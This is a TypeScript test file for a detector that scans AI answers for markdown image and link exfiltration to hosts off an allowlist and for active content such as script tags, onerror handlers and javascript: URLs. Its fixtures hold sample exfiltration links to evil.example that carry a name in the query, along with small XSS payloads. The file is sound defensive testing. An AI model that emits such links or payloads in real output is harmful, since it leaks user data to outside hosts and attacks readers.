import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createInspector } from '../../inspect.js';
import { createOutputFamily, findActiveContent, findLinks } from './index.js';
import { createPipeline } from '../../core/pipeline.js';

const pipeline = (allow: string[] = []) => createPipeline({ detectors: createOutputFamily({ linkAllowlist: allow }).detectors });
const kinds = (text: string, allow: string[] = []): string[] => pipeline(allow).inspect(text, { mode: 'output' }).findings.map((f) => `${f.kind}:${f.rule ?? ''}`);

test('markdown images and links to hosts off the allowlist are exfiltration links', () => {
  assert.deepEqual(kinds('See ![chart](https://evil.example/x.png?d=John%20Smith) here.'), ['output.exfiltration_link:output.markdown_image']);
  assert.deepEqual(kinds('Source: [NICE](https://www.nice.org.uk/guidance/ng28).'), ['output.exfiltration_link:output.markdown_link']);
  assert.deepEqual(kinds('Source: [NICE](https://www.nice.org.uk/guidance/ng28).', ['*.nice.org.uk']), []);
  assert.deepEqual(kinds('[ref]: https://evil.example/collect?q=1'), ['output.exfiltration_link:output.markdown_link']);
  assert.deepEqual(kinds('Protocol-relative ![x](//evil.example/p.gif)'), ['output.exfiltration_link:output.markdown_image']);
});

test('relative links, mailto and plain prose with brackets stay clean', () => {
  assert.deepEqual(kinds('See [the dosing table](#dosing) and [email us](mailto:ward@example.org).'), []);
  assert.deepEqual(kinds('Potassium [K+] (normal 3.5-5.0) was 4.2 mmol/L [repeat](pending).'), []);
});

test('script elements, event handlers and script URLs are active content', () => {
  assert.equal(findActiveContent('Take with food. <script>fetch("/x")</script>')[0]?.what, 'script_element');
  assert.equal(findActiveContent('<img src=x onerror=alert(1)>')[0]?.what, 'event_handler');
  assert.equal(findActiveContent('[click](javascript:alert(1))')[0]?.what, 'script_url');
  assert.equal(findActiveContent('<a href="javascript:void(0)">x</a>')[0]?.what, 'script_url');
  assert.deepEqual(findActiveContent('Blood pressure <140/90 is the target; once daily = 10 mg. JavaScript: not relevant.'), []);
});

test('hostile inputs finish with the right answer (linear scans, bounded patterns)', () => {
  for (const s of ['[](['.repeat(50_000), '<a '.repeat(50_000), '!['.repeat(50_000)]) {
    assert.deepEqual(findLinks(s), []);
    assert.deepEqual(findActiveContent(s), []);
  }
  assert.equal(findLinks(`${'['.repeat(50_000)}](https://x.example`).length, 1);
});

test('the family is registered and runs only on answers', () => {
  const inspector = createInspector({ families: ['output'] });
  assert.equal(inspector.inspect('![x](https://evil.example/a.png)', { mode: 'prompt' }).findings.length, 0);
  assert.equal(inspector.inspect('![x](https://evil.example/a.png)', { mode: 'output' }).findings.length, 1);
});
